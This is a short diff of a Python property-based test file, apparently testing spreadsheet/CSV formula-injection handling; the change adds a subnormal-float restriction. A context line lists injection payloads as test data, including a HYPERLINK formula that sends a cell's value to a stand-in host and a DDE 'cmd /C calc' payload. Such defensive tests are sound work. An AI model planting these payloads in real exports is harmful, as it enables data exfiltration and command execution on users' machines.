@@ -21,7 +21,7 @@ FORMULAS = ('=HYPERLINK("http://x.example/"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(
 VALUES = st.one_of(
     st.none(),
     st.integers(),
-    st.floats(allow_nan=False),
+    st.floats(allow_nan=False, allow_subnormal=False),
     st.text(),
     st.sampled_from(FORMULAS),
     st.from_regex("-[0-9].*"),
